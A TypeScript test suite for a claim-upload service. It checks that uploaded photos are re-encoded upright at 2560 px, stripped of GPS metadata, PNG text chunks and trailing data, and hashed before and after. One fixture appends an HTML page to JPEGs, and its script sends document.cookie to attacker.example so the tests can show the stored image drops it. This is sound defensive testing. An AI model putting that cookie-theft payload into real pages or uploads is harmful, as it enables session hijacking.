/**
 * Photos are kept re-encoded, whichever way they came: pixels alone, the right way up, without metadata or what came
 * after the image, as small as the claim form makes them (2560 px, JPEG quality 0.8), the SHA-256 of what was sent
 * kept beside the kept file's.
 */
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import fs from "node:fs";
import path from "node:path";
import { after, describe, it } from "node:test";
import zlib from "node:zlib";
import sharp from "sharp";
import { buildClaimWithUploads } from "../../form-contract/claim/payload";
import { newIdempotencyKey } from "../../form-contract/shared/idempotency";
import {
  filesUnder,
  jpegBytes,
  multipart,
  pdfBytes,
  startService,
  storedSubmissions,
  validClaimFields,
} from "./helpers";
import { claimValues, listening, tusClient } from "./tus-requests";

const sha256 = (bytes: Buffer) => createHash("sha256").update(bytes).digest("hex");

/** Where a photo was taken, as a phone's camera writes it into the EXIF. */
const gps = {
  IFD3: { GPSLatitudeRef: "N", GPSLatitude: "6/1 35/1 0/1", GPSLongitudeRef: "E", GPSLongitude: "3/1 21/1 0/1" },
};

/** Pixels with grain (so that they do not compress to nothing), coloured by `colourAt`. */
function grainyPixels(width: number, height: number, colourAt: (x: number, y: number) => number[]) {
  const pixels = Buffer.alloc(width * height * 3);
  let seed = 7;
  const random = () => (seed = (seed * 1_103_515_245 + 12_345) >>> 0) / 2 ** 32;
  for (let y = 0; y < height; y += 1) {
    for (let x = 0; x < width; x += 1) {
      const grain = (random() - 0.5) * 16;
      colourAt(x, y).forEach((value, channel) => (pixels[(y * width + x) * 3 + channel] = value + grain));
    }
  }
  return sharp(pixels, { raw: { width, height, channels: 3 } });
}

/** A JPEG's quantisation tables (its DQT segments), which its encoder's quality setting decides. */
function quantisationTables(jpeg: Buffer): Buffer[] {
  const tables: Buffer[] = [];
  for (let offset = 2; offset + 4 <= jpeg.length && jpeg[offset] === 0xff;) {
    const marker = jpeg[offset + 1]!;
    const length = jpeg.readUInt16BE(offset + 2);
    if (marker === 0xdb) tables.push(jpeg.subarray(offset + 4, offset + 2 + length));
    if (marker === 0xda) break;
    offset += 2 + length;
  }
  return tables;
}

/** The mean colour of a band of a photo, rounded to fives. */
async function meanColour(photo: Buffer, band: { left: number; top: number; width: number; height: number }) {
  const cut = await sharp(photo).extract(band).toBuffer();
  return (await sharp(cut).stats()).channels.slice(0, 3).map(({ mean }) => Math.round(mean / 5) * 5);
}

/** A PNG with a text chunk after its header, as editing programs write a comment or where a picture was taken. */
function withTextChunk(png: Buffer, keyword: string, text: string): Buffer {
  const data = Buffer.from(`${keyword}\0${text}`, "latin1");
  const chunk = Buffer.alloc(12 + data.length);
  chunk.writeUInt32BE(data.length, 0);
  chunk.write("tEXt", 4, "latin1");
  data.copy(chunk, 8);
  chunk.writeUInt32BE(zlib.crc32(chunk.subarray(4, 8 + data.length)), 8 + data.length);
  const afterHeader = 8 + 25;
  return Buffer.concat([png.subarray(0, afterHeader), chunk, png.subarray(afterHeader)]);
}

const trailingPage = Buffer.from(
  "<html><body><script>fetch('https://attacker.example/?c='+document.cookie)</script></body></html>\n",
);

describe("Photos as the service keeps them", async () => {
  const { app, dataDir } = await startService({ RATE_LIMIT_MAX: "1000", UPLOAD_RATE_LIMIT_MAX: "1000" });
  after(() => app.close());
  const send = async (uploads: Parameters<typeof multipart>[1]) => {
    const response = await app.inject({
      method: "POST",
      url: "/api/claims",
      ...(await multipart(validClaimFields, uploads)),
    });
    assert.equal(response.statusCode, 201, response.body);
    const { reference } = response.json<{ reference: string }>();
    const stored = storedSubmissions(dataDir).find((submission) => submission.reference === reference)!;
    return stored.documents.map((document) => ({
      ...document,
      content: fs.readFileSync(path.join(dataDir, "documents", document.storedPath)),
    }));
  };

  it("keeps a sideways 6 MP photo from the plain form upright at 2560 px, quality 0.8, without its GPS position", async () => {
    const upright = await grainyPixels(2000, 3000, (_, y) => (y < 1500 ? [200, 30, 30] : [30, 30, 200]))
      .png()
      .toBuffer();
    const sideways = await sharp(upright)
      .rotate(270)
      .withExif(gps)
      .withMetadata({ orientation: 6 })
      .jpeg({ quality: 92 })
      .toBuffer();
    assert.deepEqual(
      await sharp(sideways)
        .metadata()
        .then(({ width, height, orientation, exif }) => [width, height, orientation, exif !== undefined]),
      [3000, 2000, 6, true],
    );

    const [kept] = await send([{ name: "kitchen.jpg", bytes: sideways, type: "image/jpeg" }]);
    const { format, width, height, orientation, exif, icc, xmp } = await sharp(kept!.content).metadata();
    assert.deepEqual(
      { format, width, height, orientation, exif, icc, xmp },
      {
        format: "jpeg",
        width: 1707,
        height: 2560,
        orientation: undefined,
        exif: undefined,
        icc: undefined,
        xmp: undefined,
      },
    );
    const atQuality80 = await sharp({ create: { width: 16, height: 16, channels: 3, background: "#808080" } })
      .jpeg({ quality: 80 })
      .toBuffer();
    assert.deepEqual(quantisationTables(kept!.content), quantisationTables(atQuality80));
    assert.deepEqual(await meanColour(kept!.content, { left: 200, top: 200, width: 1300, height: 400 }), [200, 30, 30]);
    assert.deepEqual(
      await meanColour(kept!.content, { left: 200, top: 1900, width: 1300, height: 400 }),
      [30, 30, 200],
    );
    assert.deepEqual(
      { originalName: kept!.originalName, mediaType: kept!.mediaType, size: kept!.size, sha256: kept!.sha256 },
      {
        originalName: "kitchen.jpg",
        mediaType: "image/jpeg",
        size: kept!.content.length,
        sha256: sha256(kept!.content),
      },
    );
    assert.equal(kept!.originalSha256, sha256(sideways));
    assert.ok(kept!.size < sideways.length / 2, `${kept!.size} of ${sideways.length}`);
  });

  it("keeps a JPEG whose bytes after the image are an HTML page as the image alone", async () => {
    const photo = await jpegBytes();
    const sent = Buffer.concat([photo, trailingPage]);
    const [kept] = await send([{ name: "bumper.jpg", bytes: sent, type: "image/jpeg" }]);
    assert.equal(kept!.content.indexOf("<html"), -1);
    assert.equal(kept!.content.indexOf("script"), -1);
    // The image ends with the file: nothing after its end-of-image marker.
    assert.deepEqual([...kept!.content.subarray(-2)], [0xff, 0xd9]);
    assert.deepEqual(
      await sharp(kept!.content)
        .metadata()
        .then(({ width, height }) => [width, height]),
      [4, 3],
    );
    assert.equal(kept!.originalSha256, sha256(sent));
    assert.equal(kept!.sha256, sha256(kept!.content));
  });

  it("keeps a small PNG a PNG with the same pixels, without its text chunks", async () => {
    const pixels = await grainyPixels(40, 30, (x) => (x < 20 ? [11, 53, 88] : [250, 200, 40]))
      .png()
      .toBuffer();
    const sent = withTextChunk(pixels, "Comment", "Taken at 6.58N 3.35E");
    assert.ok(sent.includes("6.58N"));
    const [kept] = await send([{ name: "screenshot.png", bytes: sent, type: "image/png" }]);
    assert.deepEqual([kept!.originalName, kept!.mediaType], ["screenshot.png", "image/png"]);
    assert.equal(kept!.content.indexOf("6.58N"), -1);
    assert.equal(kept!.content.indexOf("tEXt"), -1);
    const raw = async (png: Buffer) => sharp(png).raw().toBuffer();
    assert.ok((await raw(kept!.content)).equals(await raw(sent)));
    assert.equal(kept!.originalSha256, sha256(sent));
  });

  it("makes a PNG the form would have made smaller a JPEG named .jpg, its transparency white, as the form does", async () => {
    const halfClear = Buffer.alloc(3000 * 100 * 4);
    for (let pixel = 0; pixel < 3000 * 100; pixel += 1) {
      // The left half clear, the right half opaque navy.
      if (pixel % 3000 >= 1500) halfClear.set([11, 53, 88, 255], pixel * 4);
    }
    const sent = await sharp(halfClear, { raw: { width: 3000, height: 100, channels: 4 } })
      .png()
      .toBuffer();
    const [kept] = await send([{ name: "panorama.png", bytes: sent, type: "image/png" }]);
    assert.deepEqual([kept!.originalName, kept!.mediaType], ["panorama.jpg", "image/jpeg"]);
    assert.match(kept!.storedPath, /\/0-panorama\.jpg$/);
    const { format, width, height } = await sharp(kept!.content).metadata();
    assert.deepEqual({ format, width, height }, { format: "jpeg", width: 2560, height: 85 });
    assert.deepEqual(await meanColour(kept!.content, { left: 100, top: 20, width: 1000, height: 40 }), [255, 255, 255]);
    assert.deepEqual(await meanColour(kept!.content, { left: 1400, top: 20, width: 1000, height: 40 }), [10, 55, 90]);
  });

  it("keeps a PDF beside a photo byte for byte, its two hashes the same", async () => {
    const [pdf] = await send([
      { name: "report.pdf", bytes: pdfBytes },
      { name: "bumper.jpg", bytes: await jpegBytes(), type: "image/jpeg" },
    ]);
    assert.ok(pdf!.content.equals(pdfBytes));
    assert.deepEqual([pdf!.sha256, pdf!.originalSha256], [sha256(pdfBytes), sha256(pdfBytes)]);
  });

  it("keeps a photo uploaded ahead of its claim re-encoded too, and leaves no file behind", async () => {
    const client = tusClient(await listening(app));
    const claimKey = newIdempotencyKey();
    const sent = Buffer.concat([await jpegBytes(), trailingPage]);
    const id = await client.upload({ name: "boot.jpg", bytes: sent, type: "image/jpeg" }, claimKey);
    const answer = await client.claim(buildClaimWithUploads(claimValues, claimKey, [id]));
    assert.equal(answer.status, 201, await answer.clone().text());
    const { reference } = (await answer.json()) as { reference: string };
    const [kept] = storedSubmissions(dataDir).find((submission) => submission.reference === reference)!.documents;
    const content = fs.readFileSync(path.join(dataDir, "documents", kept!.storedPath));
    assert.equal(content.indexOf("<html"), -1);
    assert.deepEqual([kept!.sha256, kept!.originalSha256], [sha256(content), sha256(sent)]);
    assert.deepEqual(filesUnder(path.join(dataDir, "incoming")), []);
  });
});
